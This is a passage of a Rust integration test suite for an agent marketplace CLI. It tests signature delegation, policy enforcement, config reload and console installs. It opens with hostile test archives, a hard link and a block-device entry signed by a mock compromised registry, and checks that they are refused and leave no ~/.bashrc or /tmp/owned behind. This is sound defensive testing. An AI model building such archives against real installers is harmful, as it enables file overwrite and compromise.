        ("1.0.4", hostile_tgz(&[("hard", Link, b"", "agent.toml")]), "hard links"),
        ("1.0.5", hostile_tgz(&[("disk", Block, b"", "")]), "special files"),
    ];
    for (version, bytes, _) in &cases {
        sign_as_compromised_registry(&market.registry, "trojan", version, bytes);
    }
    for (version, _, expected) in &cases {
        let err = market.refused(&format!("trojan@{version}"));
        assert!(err.contains(expected) && err.contains("Nothing was installed"), "{version}: {err}");
    }
    assert!(!market.home.path().join(".bashrc").exists());
    assert!(!Path::new("/tmp/owned").exists());
    let store = market.home.path().join(".local/share/paired/market/agents/trojan");
    let left: Vec<String> = std::fs::read_dir(&store)
        .map(|d| d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect())
        .unwrap_or_default();
    assert!(left.is_empty(), "nothing of a refused package stays: {left:?}");
}

#[test]
fn publishers_sign_their_own_packages_through_delegations() {
    let market = Market::new();
    let home = &market.home;
    let publisher = home.path().join("acme-publisher");
    ok(home, &["market", "publisher", "init", "--name", "acme", "--out", publisher.to_str().expect("utf-8")]);
    ok(
        home,
        &[
            "market",
            "publisher",
            "add",
            "--registry",
            market.reg(),
            "--name",
            "acme",
            "--from",
            publisher.to_str().expect("utf-8"),
        ],
    );
    // The registry's targets key goes offline: the publisher's key and the
    // online snapshot and timestamp keys are all a release needs.
    let offline = home.path().join("targets.pk8.offline");
    std::fs::rename(market.registry.join("keys/targets.pk8"), &offline).expect("move the key away");
    let key = publisher.join("private/acme.pk8");
    let publish = |id: &str, key: &Path| {
        let folder = agent(home.path(), id, "1.0.0", "fs_read = [\"src/**\"]");
        run(
            home,
            &[
                "market",
                "publish",
                folder.to_str().expect("utf-8"),
                "--registry",
                market.reg(),
                "--publisher",
                "acme",
                "--key",
                key.to_str().expect("utf-8"),
            ],
        )
    };
    let r = publish("acme-linter", &key);
    assert!(r.ok, "{}", r.stderr);
    let r = publish("free-name", &key);
    assert!(!r.ok && r.stderr.contains("signs only packages named acme-"), "{}", r.stderr);
    // Someone else's key cannot sign acme's role.
    let mallory = home.path().join("mallory");
    ok(home, &["market", "publisher", "init", "--name", "mallory", "--out", mallory.to_str().expect("utf-8")]);
    let r = publish("acme-forged", &mallory.join("private/mallory.pk8"));
    assert!(!r.ok, "a key the registry did not delegate to cannot publish: {}", r.stdout);

    let found = json(home, &["market", "search", "--json"]);
    let names: Vec<&str> =
        found["packages"].as_array().expect("list").iter().filter_map(|p| p["name"].as_str()).collect();
    assert!(names.contains(&"acme-linter") && !names.contains(&"acme-forged"), "{names:?}");
    let installed = json(home, &["market", "install", "acme-linter", "--yes", "--json"]);
    assert_eq!(installed["version"], "1.0.0");
    assert_eq!(json(home, &["market", "usage", "--json"])[0]["publisher"], "acme");
}

#[test]
fn with_a_model_the_generated_persona_is_refined_by_it() {
    use tests::fake_provider::{Reply, openai_text, serve_fake};
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().expect("runtime");
    let refined =
        "You are Rust Safety Review: you read Rust code for panics and unsafe blocks and explain each finding.";
    let (port, fake) = runtime.block_on(serve_fake(vec![Reply::Sse(openai_text(&[refined]))]));
    let home = Home::new();
    home.write_config(&tests::fake_provider::config(port));
    let generated = json(
        &home,
        &[
            "agents",
            "generate",
            "--domain",
            "backend",
            "--specialization",
            "Rust safety review",
            "--capability",
            "code review",
            "--json",
        ],
    );
    assert_eq!(generated["refined_by"], "fake", "{generated}");
    assert_eq!(generated["personality"]["system_prompt"], serde_json::json!([refined]));
    let asked = fake.requests.lock().expect("requests")[0].1.to_string();
    assert!(asked.contains("Rust safety review") && asked.contains("Write a better system prompt"), "{asked}");
    let _ = home.paired(&["stop"]).output();
}

/// Issue #15: a registry added to config.toml was ignored until the daemon
/// restarted. `[market]` applies as soon as the file is saved; a file that
/// does not load keeps what is in force; other sections need a restart.
#[test]
fn a_registry_added_to_the_config_is_used_at_once() {
    let market = Market::new();
    let home = &market.home;
    let config = std::fs::read_to_string(home.path().join(".config/paired/config.toml")).expect("config");
    home.write_config("[market]\nrefresh_secs = 0\n");
    let r = run(home, &["market", "search", "--json"]);
    // Asked for JSON, the error is JSON on stdout.
    let error: Value = serde_json::from_str(&r.stdout).unwrap_or_default();
    let message = error["error"]["message"].as_str().unwrap_or_default().to_owned();
    assert!(!r.ok && message.contains("no agent registry is configured"), "{} {}", r.stdout, r.stderr);
    assert!(message.contains("as soon as the file is saved"), "{message}");

    // The same daemon, the registry added.
    let pid = json(home, &["status", "--json"])["pid"].clone();
    home.write_config(&config);
    let found = eventually(|| {
        let r = run(home, &["market", "search", "--json"]);
        r.ok.then(|| serde_json::from_str::<Value>(&r.stdout).expect("json"))
    });
    assert_eq!(found["packages"][0]["name"], "rust-auditor", "{found}");
    assert_eq!(json(home, &["status", "--json"])["pid"], pid, "no restart");

    // A file that does not load: the configuration in force is kept, and the log says why.
    home.write_config(&format!("{config}\n[market.policy]\ndeny = \"everything\"\n"));
    let log = home.state_dir().join("paired.log");
    eventually(|| std::fs::read_to_string(&log).ok().filter(|l| l.contains("configuration in force is kept")));
    let logged = std::fs::read_to_string(&log).expect("log");
    assert!(logged.contains("market.policy.deny"), "{logged}");
    let found = json(home, &["market", "search", "--json"]);
    assert_eq!(found["packages"][0]["name"], "rust-auditor", "{found}");

    // A policy is applied live too; a section fixed at start says so.
    home.write_config(&format!("[context]\nbudget_tokens = 1234\n{config}\n[market.policy]\ndeny = [\"fs_read\"]\n"));
    eventually(|| std::fs::read_to_string(&log).ok().filter(|l| l.contains("restart needed")));
    let logged = std::fs::read_to_string(&log).expect("log");
    assert!(logged.contains("changed [context]: restart needed"), "{logged}");
    // `paired status` and `paired doctor` say so too.
    let status = json(home, &["status", "--json"]);
    assert_eq!(status["restart_needed"], serde_json::json!(["context"]), "{status}");
    let doctor = run(home, &["doctor"]);
    assert!(doctor.stdout.contains("config.toml changed [context] since the daemon started"), "{}", doctor.stdout);
    assert!(doctor.stdout.contains("registries: acme at"), "doctor names the registries: {}", doctor.stdout);
    assert!(doctor.stdout.contains("applies [market] changes as soon as config.toml is saved"), "{}", doctor.stdout);
    let err = eventually(|| {
        let r = run(home, &["market", "install", "rust-auditor", "--yes"]);
        (!r.ok && r.stderr.contains("your policy denies")).then_some(r.stderr)
    });
    assert!(err.contains("asks for fs_read"), "{err}");
}

/// Polls for up to 15 seconds.
fn eventually<T>(check: impl FnMut() -> Option<T>) -> T {
    tests::poll_for("the daemon to apply config.toml", Duration::from_secs(15), check)
}

/// Issue #15: a 7 MB install over a slow link was silent until it finished
/// (events stopped at `download 0/…`). Without a terminal, progress is plain lines.
#[test]
fn downloads_report_progress_as_they_go() {
    let market = Market::new();
    let home = &market.home;
    let folder = agent(home.path(), "big-agent", "1.0.0", "");
    let noise: String = (0..60_000).map(|i| format!("// {:x}\n", i * 2_654_435_761_u64)).collect();
    std::fs::write(folder.join("fixtures/noise.rs"), noise).expect("write");
    ok(
        home,
        &["market", "publish", folder.to_str().expect("utf-8"), "--registry", market.reg(), "--publisher", "acme"],
    );
    market.server.set(|b| b.slow = Some(("/targets/".into(), Duration::from_millis(3))));
    let r = run(home, &["market", "install", "big-agent", "--yes"]);
    assert!(r.ok, "{}", r.stderr);
    let partial: Vec<&str> = r
        .stderr
        .lines()
        .filter(|l| l.starts_with("big-agent: download "))
        .filter(|l| !l.contains(" download 0/") && !l.contains("(100%)"))
        .collect();
    assert!(partial.len() >= 3, "progress while downloading:\n{}", r.stderr);
    assert!(r.stderr.contains("big-agent: extract"), "{}", r.stderr);
}

/// Issue #15: search and info showed a stale index for up to
/// `market.refresh_secs` after a publish or a yank.
#[test]
fn refresh_shows_a_publish_or_a_yank_at_once() {
    let market = Market::new();
    let home = &market.home;
    home.write_config(&format!(
        "[market]\nrefresh_secs = 300\n[[market.registries]]\nname = \"acme\"\nurl = \"{}\"\nroot = \"{}\"\n",
        market.server.url(),
        market.registry.join("root.json").display()
    ));
    let latest = |args: &[&str]| json(home, args)["latest"]["version"].as_str().map(str::to_owned);
    assert_eq!(latest(&["market", "info", "rust-auditor", "--json"]).as_deref(), Some("1.0.0"));
    market.publish("rust-auditor", "1.1.0", "fs_read = [\"**\"]");
    assert_eq!(latest(&["market", "info", "rust-auditor", "--json"]).as_deref(), Some("1.0.0"), "reused");
    let found = json(home, &["market", "search", "audit", "--refresh", "--json"]);
    assert_eq!(found["packages"][0]["version"], "1.1.0", "{found}");
    ok(home, &["market", "yank", "rust-auditor@1.1.0", "--registry", market.reg()]);
    let refreshed = json(home, &["market", "refresh", "--json"]);
    assert_eq!(refreshed, serde_json::json!([{"registry": "acme", "packages": 2}]));
    assert_eq!(latest(&["market", "info", "rust-auditor", "--json"]).as_deref(), Some("1.0.0"), "the yank shows");
    market.publish("rust-auditor", "1.2.0", "fs_read = [\"**\"]");
    assert_eq!(latest(&["market", "info", "rust-auditor", "--refresh", "--json"]).as_deref(), Some("1.2.0"));
    let said = ok(home, &["market", "refresh"]);
    assert_eq!(said.trim(), "acme: 3 packages, verified");
}

/// Issue #15: a package with no test cases was shown as certified.
#[test]
fn certification_levels_say_what_was_checked() {
    let market = Market::new();
    let home = &market.home;
    let folder = agent(home.path(), "untested-agent", "1.0.0", "");
    std::fs::remove_dir_all(folder.join("tests")).expect("no test cases");
    let checked = json(home, &["market", "check", folder.to_str().expect("utf-8"), "--json"]);
    assert_eq!(checked["level"], "validated", "{checked}");
    let published = json(
        home,
        &[
            "market",
            "publish",
            folder.to_str().expect("utf-8"),
            "--registry",
            market.reg(),
            "--publisher",
            "acme",
            "--json",
        ],
    );
    assert_eq!(published["certification"], "validated", "{published}");
    let found = json(home, &["market", "search", "--json"]);
    let certified = |name: &str| {
        found["packages"].as_array().expect("list").iter().find(|p| p["name"] == name).expect(name)["certified"].clone()
    };
    assert_eq!((certified("untested-agent"), certified("rust-auditor")), (Value::Bool(false), Value::Bool(true)));
    let listed = ok(home, &["market", "search"]);
    let line_of = |name: &str| listed.lines().find(|l| l.starts_with(name)).unwrap_or_default().to_owned();
    let tested = |name: &str| line_of(name).contains("· tested");
    assert!(tested("rust-auditor@") && !tested("untested-agent@"), "{listed}");
    let info = ok(home, &["market", "info", "untested-agent"]);
    assert!(info.contains("checked: not tested"), "{info}");
    let info = ok(home, &["market", "info", "rust-auditor"]);
    assert!(info.contains("checked: tested"), "{info}");
}

/// Issue #15: `--publisher` defaulted to nothing (consent read "(publisher )"),
/// and `publisher init` told the publisher to hand over the folder holding
/// their private key.
#[test]
fn publishers_are_named_and_their_keys_stay_private() {
    let market = Market::new();
    let home = &market.home;
    let folder = agent(home.path(), "nameless", "1.0.0", "");
    let r = run(home, &["market", "publish", folder.to_str().expect("utf-8"), "--registry", market.reg()]);
    assert!(!r.ok && r.stderr.contains("say who publishes nameless: --publisher NAME"), "{}", r.stderr);
    // A later version: its publisher is the one who owns the name.
    let folder = agent(home.path(), "rust-auditor", "1.1.0", "fs_read = [\"**\"]");
    let published =
        json(home, &["market", "publish", folder.to_str().expect("utf-8"), "--registry", market.reg(), "--json"]);
    assert_eq!(published["publisher"], "acme", "{published}");

    let out = home.path().join("acme-keys");
    let said = ok(home, &["market", "publisher", "init", "--name", "acme", "--out", out.to_str().expect("utf-8")]);
    let (public, private) = (out.join("public"), out.join("private"));
    let names = |dir: &Path| -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(dir)
            .expect("dir")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    };
    assert_eq!(names(&public), ["acme.json", "acme.pub.json"], "what is sent holds no private key");
    assert_eq!(names(&private), ["acme.pk8"]);
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &Path| std::fs::metadata(p).expect("stat").permissions().mode() & 0o777;
    assert_eq!((mode(&private), mode(&private.join("acme.pk8"))), (0o700, 0o600));
    let send = said.lines().find(|l| l.trim_start().starts_with("send:")).expect("what to send");
    assert!(send.contains(public.to_str().expect("utf-8")) && !send.contains("pk8"), "{said}");
    assert!(said.contains(&format!("keep:  {}", private.display())), "{said}");
    let added = json(
        home,
        &[
            "market",
            "publisher",
            "add",
            "--registry",
            market.reg(),
            "--name",
            "acme",
            "--from",
            public.to_str().expect("utf-8"),
            "--json",
        ],
    );
    assert_eq!(added["packages"], "acme-*");
    // The key names the publisher.
    let folder = agent(home.path(), "acme-linter", "1.0.0", "");
    let key = private.join("acme.pk8");
    let args = ["market", "publish", folder.to_str().expect("utf-8"), "--registry", market.reg()];
    let published = json(home, &[&args[..], &["--key", key.to_str().expect("utf-8"), "--json"]].concat());
    assert_eq!(published["publisher"], "acme", "{published}");
}

/// Issue #15: the documented `agent.toml` is complete and valid, and `pack`
/// and `publish` answer in JSON too.
#[test]
fn the_documented_agent_toml_checks_packs_and_publishes() {
    let docs = include_str!("../../../docs/marketplace.md");
    let block = |first_line: &str| -> String {
        let start =
            docs.find(&format!("```toml\n{first_line}\n")).unwrap_or_else(|| panic!("{first_line} in the docs"));
        let body = &docs[start + "```toml\n".len()..];
        body[..body.find("```").expect("closed")].to_owned()
    };
    let manifest = block("# agent.toml");
    // Complete: every key of the format (a commented one is shown too); `check` below parses it.
    let has = |key: &str| manifest.lines().any(|l| l.trim_start_matches("# ").starts_with(&format!("{key} =")));
    for section in ["[metadata]", "[personality]", "[permissions]", "[pricing]"] {
        assert!(manifest.lines().any(|l| l.starts_with(section)), "the example shows {section}");
    }
    let keys = [
        "id",
        "capabilities",
        "tools",
        "provider",
        "name",
        "version",
        "role",
        "domain",
        "specialization",
        "description",
        "emoji",
        "author",
        "license",
        "homepage",
        "tone",
        "approach",
        "system_prompt",
        "traits",
        "fs_read",
        "fs_write",
        "net",
        "commands",
        "mcp_tools",
        "kind",
    ];
    for key in keys {
        assert!(has(key), "the example shows {key}");
    }
    let market = Market::new();
    let home = &market.home;
    let folder = home.path().join("documented");
    std::fs::create_dir_all(folder.join("tests")).expect("mkdir");
    std::fs::create_dir_all(folder.join("fixtures")).expect("mkdir");
    std::fs::write(folder.join("agent.toml"), manifest.replace("rust-auditor", "doc-auditor")).expect("write");
    std::fs::write(folder.join("tests/unwrap.toml"), block("# tests/unwrap.toml")).expect("write");
    std::fs::write(folder.join("fixtures/sample.rs"), "pub fn f(x: Option<u8>) -> u8 { x.unwrap() }\n").expect("write");
    let checked = json(home, &["market", "check", folder.to_str().expect("utf-8"), "--json"]);
    assert_eq!(checked["level"], "tested", "{checked}");
    let tgz = home.path().join("doc.tgz");
    let packed =
        json(home, &["market", "pack", folder.to_str().expect("utf-8"), "-o", tgz.to_str().expect("utf-8"), "--json"]);
    assert_eq!(packed["bytes"].as_u64(), std::fs::metadata(&tgz).ok().map(|m| m.len()), "{packed}");
    let published = json(
        home,
        &[
            "market",
            "publish",
            folder.to_str().expect("utf-8"),
            "--registry",
            market.reg(),
            "--publisher",
            "acme",
            "--json",
        ],
    );
    assert_eq!((published["name"].as_str(), published["version"].as_str()), (Some("doc-auditor"), Some("1.0.0")));
}

/// This machine's membership of a hub whose signed policy is `rules` (for the
/// organisation), as `paired team join` and the policy refresh leave it.
fn joined_with_policy(home: &Home, rules: Value) {
    let key = policy::signed::SigningKey::from_pkcs8(&policy::signed::generate().expect("key")).expect("pkcs8");
    use base64::Engine as _;
    let public = base64::engine::general_purpose::STANDARD.encode(key.public_key());
    let state = home.state_dir();
    std::fs::create_dir_all(&state).expect("state dir");
    let membership = serde_json::json!({
        "hub": "https://hub.example", "org_id": 1, "org": "acme", "member": 7, "email": "ada@example.com",
        "role": "member", "token_id": 3, "joined_at": "2026-12-01T00:00:00Z", "policy_key": public,
    });
    std::fs::write(state.join("team.json"), membership.to_string()).expect("team.json");
    let now = jiff::Timestamp::now();
    let signed = key.sign(&policy::Policy {
        org: "acme".into(),
        member: 7,
        issued_at: now,
        expires_at: now + jiff::SignedDuration::from_hours(1),
        sources: vec![policy::Source { scope: "org".into(), rules: serde_json::from_value(rules).expect("rules") }],
    });
    std::fs::write(state.join("team-policy.json"), serde_json::to_string(&signed).expect("json")).expect("cache");
}

#[test]
fn the_team_policy_decides_what_the_marketplace_installs() {
    let market = Market::new();
    joined_with_policy(&market.home, serde_json::json!({"publishers": {"deny": ["acme"]}}));
    let refused = market.refused("rust-auditor");
    assert!(
        refused.contains("the team policy does not allow installing rust-auditor: org: publishers.deny has \"acme\""),
        "{refused}"
    );
    joined_with_policy(&market.home, serde_json::json!({"deny_grants": ["fs_read"]}));
    let refused = market.refused("rust-auditor");
    assert!(refused.contains("granting fs_read to rust-auditor: org: deny_grants has \"fs_read\""), "{refused}");
    joined_with_policy(&market.home, serde_json::json!({"registries": {"allow": ["internal"]}}));
    assert!(market.refused("rust-auditor").contains("registries.allow (internal) does not name it"));
    joined_with_policy(
        &market.home,
        serde_json::json!({"publishers": {"allow": ["acme"]}, "min_certification": "validated"}),
    );
    let installed = run(&market.home, &["market", "install", "rust-auditor", "--yes"]);
    assert!(installed.ok, "{}", installed.stderr);
}

/// The console's Agents page (#21): in Chromium, a user finds a package and
/// installs it granting exactly what it asks (the dialog names each
/// permission); once a new version asking for more is published, the page
/// offers the update, marks the new permission, and installs it only when
/// granted; roll back, a refused update (nothing changes) and remove follow.
/// Certification is shown, the audit log has each change, and a change
/// without the page's Origin is refused.
#[test]
fn the_console_installs_updates_and_rolls_back_with_the_clis_consent() {
    use serde_json::json;
    use tests::console::{api, browse, paired_console, sign_in};
    let market = Market::new();
    let home = &market.home;
    let _daemon = home.start_daemon();
    let maya = |name: &str, page: &Value| {
        let found =
            agents::skills::accessibility::accessibility("maya", "console.html", page["html"].as_str().unwrap_or(""));
        let messages: Vec<&str> = found.findings.iter().map(|f| f.message.as_str()).collect();
        assert!(messages.is_empty(), "Maya on the {name}: {messages:#?}");
    };
    let shots = std::env::var("PAIRED_CONSOLE_SCREENSHOTS").ok();
    let browse_agents = |steps: &[&str]| {
        let (target, _) = paired_console(home);
        let agents = json!({"search": "panics", "name": "rust-auditor", "steps": steps});
        let report = browse(&json!({"login": target, "agents": agents, "screenshots": shots}));
        // The consent answer is a 409, which Chromium logs; nothing else may go wrong.
        let errors: Vec<&Value> = report["errors_signed_in"]
            .as_array()
            .expect("errors")
            .iter()
            .filter(|e| !e.as_str().unwrap_or("").contains("status of 409 (Conflict)"))
            .collect();
        assert!(errors.is_empty(), "{errors:?}");
        report["agents"].clone()
    };
    let said = |step: &Value| step["status"].as_str().unwrap_or("").to_owned();
    let text = |step: &Value| step["text"].as_str().unwrap_or("").to_owned();

    let steps = browse_agents(&["install"]);
    let search = text(&steps["search"]);
    assert!(search.contains("Marketplace packages for “panics”") && search.contains("tested"), "{search}");
    let asked = steps["install_dialog"]["text"].as_str().unwrap_or("");
    assert!(asked.contains("rust-auditor@1.0.0 asks for permissions") && asked.contains("read files: **"), "{asked}");
    assert!(asked.contains("From acme in the acme registry") && !asked.contains("(new)"), "{asked}");
    assert_eq!(steps["install_dialog"]["focused"], "Cancel", "focus starts on the safe answer");
    maya("install dialog", &steps["install_dialog"]);
    assert_eq!(said(&steps["installed"]), "Installed rust-auditor@1.0.0.");
    let installed = &market.installed()[0];
    assert_eq!((&installed["version"], &installed["permissions"]), (&json!("1.0.0"), &json!(["read files: **"])));

    market.publish("rust-auditor", "1.1.0", "fs_read = [\"**\"]\nfs_write = [\"**\"]");
    ok(home, &["market", "refresh"]);
    let steps = browse_agents(&["update", "rollback", "refuse", "remove"]);
    let row = text(&steps["search"]);
    assert!(row.contains("1.1.0 available") && row.contains("tested"), "{row}");
    let asked = steps["update_dialog"]["text"].as_str().unwrap_or("");
    assert!(asked.contains("rust-auditor@1.1.0") && asked.contains("propose edits to files: ** (new)"), "{asked}");
    assert!(!asked.contains("read files: ** (new)"), "{asked}");
    assert_eq!(said(&steps["updated"]), "Updated rust-auditor@1.1.0.");
    assert!(text(&steps["updated"]).contains("propose edits to files: **"), "granted now");
    assert_eq!(said(&steps["rolled_back"]), "Rolled back rust-auditor@1.0.0.");
    assert!(said(&steps["refused"]).starts_with("Nothing was installed"), "{}", said(&steps["refused"]));
    let installed_row = |step: &Value| {
        let tables = step["tables"].as_array().expect("tables");
        let table = tables.iter().find(|t| t["caption"] == "Installed from the marketplace").expect("installed table");
        table["rows"][0].clone()
    };
    let row = installed_row(&steps["refused"]);
    assert_eq!((&row[1], &row[5]), (&json!("1.0.0"), &json!("1.1.0 available")), "a refused update changes nothing");
    assert_eq!(installed_row(&steps["updated"])[6], "1.0.0", "the rollback target");
    maya("remove dialog", &steps["remove_dialog"]);
    assert_eq!(said(&steps["removed"]), "Removed rust-auditor.");
    let gone = |installed: Value| installed.as_array().is_some_and(|a| a.iter().all(|p| p["version"] == ""));
    assert!(gone(market.installed()), "removed: {}", market.installed());

    // Each change in the audit log, said to come from the console.
    let signed = sign_in(home);
    let audit = api(home, &signed, "audit?limit=50").json();
    let changes: Vec<String> = audit["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter(|e| e["actor"] == "you (console)" && e["action"].as_str().unwrap_or("").starts_with("market."))
        .map(|e| format!("{} {}", e["action"].as_str().unwrap_or(""), e["target"].as_str().unwrap_or("")))
        .collect();
    assert_eq!(
        changes,
        [
            "market.remove rust-auditor",
            "market.rollback rust-auditor@1.0.0",
            "market.update rust-auditor@1.1.0",
            "market.install rust-auditor@1.0.0"
        ]
    );
    // A change from outside the page (no Origin: a script, not a browser) is refused.
    let host = format!("127.0.0.1:{}", home.port());
    let cookie = format!("paired_console={}", signed.cookie);
    let body = r#"{"name": "rust-auditor", "permissions": ["read files: **"]}"#;
    let path = format!("{}api/market/install", signed.base);
    let reply = tests::http(
        home.port(),
        "POST",
        &path,
        &[("Host", &host), ("Cookie", &cookie), ("Content-Type", "application/json")],
        body,
    );
    assert_eq!(reply.status, 403, "{reply:?}");
    assert!(gone(market.installed()), "nothing installed: {}", market.installed());
}
